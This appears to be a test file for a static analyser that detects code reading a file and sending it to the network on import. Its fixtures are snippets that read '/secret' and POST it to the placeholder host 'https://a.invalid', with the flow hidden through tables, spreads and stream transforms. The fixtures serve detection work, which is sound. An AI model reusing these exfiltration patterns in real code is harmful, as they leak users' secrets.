import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

const READS = `const fs = require('fs'); const post = d => fetch('https://a.invalid', { method: 'POST', body: d }); const go = () => post(fs.readFileSync('/secret'));`;
const FILES = {
  'a.js': `${READS} module.exports = go; module.exports.run = go`,
  'b.js': 'module.exports = () => 1; module.exports.run = () => 2',
};
const STREAMS = `const fs = require('fs'), stream = require('stream'); const send = d => fetch('https://a.invalid', { method: 'POST', body: d }); const source = fs.createReadStream('/secret');`;

const CASES: readonly (readonly [string, string])[] = [
  [
    'a file of a list, where a parameter is called alike',
    `const a = require('./a'), b = require('./b'); const steps = [b, a]; function run(a) { for (const step of steps) step(a) } run(1)`,
  ],
  [
    'a function of a table, where a parameter is called alike',
    `${READS} const steps = { linux: go, win32: go }; function run(go) { steps[process.platform](go) } run(1)`,
  ],
  ['what each row of a list is taken apart to', `for (const { run } of [require('./b'), require('./a')]) run()`],
  ['what a visitor takes each row apart to', `[require('./b'), require('./a')].forEach(({ run }) => run())`],
  [
    'a table that takes over another',
    `${READS} const one = { a() {}, b: go }; const all = { ...one, c() {} }; for (const key of Object.keys(all)) all[key]()`,
  ],
  [
    'a table by platform that takes over another',
    `${READS} const one = { win32() {}, linux: go }; const all = { ...one, darwin() {} }; all[process.platform]()`,
  ],
  [
    'files that are put into a list',
    `const list = []; list.push(require('./b')); list.push(require('./a')); for (const step of list) step()`,
  ],
  [
    'objects that are put into a list',
    `${READS} const list = []; list.push({ run() {} }); list.push({ run: go }); for (const step of list) step.run()`,
  ],
  [
    'a stream made with a function that has a name',
    `${STREAMS} function change(d, _, done) { send(d); done() } source.pipe(new stream.Transform({ transform: change }))`,
  ],
  [
    'a stream that is given many pieces at once',
    `${STREAMS} class All extends stream.Writable { _writev(d, done) { send(d) } } source.pipe(new All())`,
  ],
  ['a stream of the web', `${STREAMS} stream.Readable.toWeb(source).pipeThrough(new TransformStream({ transform(d) { send(d) } }))`],
  ['the end of a stream of the web', `${STREAMS} stream.Readable.toWeb(source).pipeTo(new WritableStream({ write: send }))`],
];

describe('what is called by where it is kept', () => {
  for (const [what, code] of CASES)
    it(`is ${what}`, () => {
      const { flows } = behaviourOf({ 'index.js': code, ...FILES });
      assert.ok(
        flows.some(({ from, to }) => from.kind === 'reads file' && to.kind === 'connects' && to.triggers.includes('import')),
        JSON.stringify(flows.map(({ from, to }) => [from.api, to.api, to.triggers])),
      );
    });

  it('is found in tables that take over each other many times over', () => {
    const tables = Array.from({ length: 12 }, (_, at) => `const t${at + 1} = { ...t${at}, ...t${at}, ...t${at} };`).join(' ');
    const { effects } = behaviourOf({
      'index.js': `${READS} const t0 = { a: go, ...t0 }; ${tables} t3[process.platform](); t12[process.platform]()`,
    });
    assert.ok(effects.some(({ kind, triggers }) => kind === 'connects' && triggers.includes('import')));
  });
});
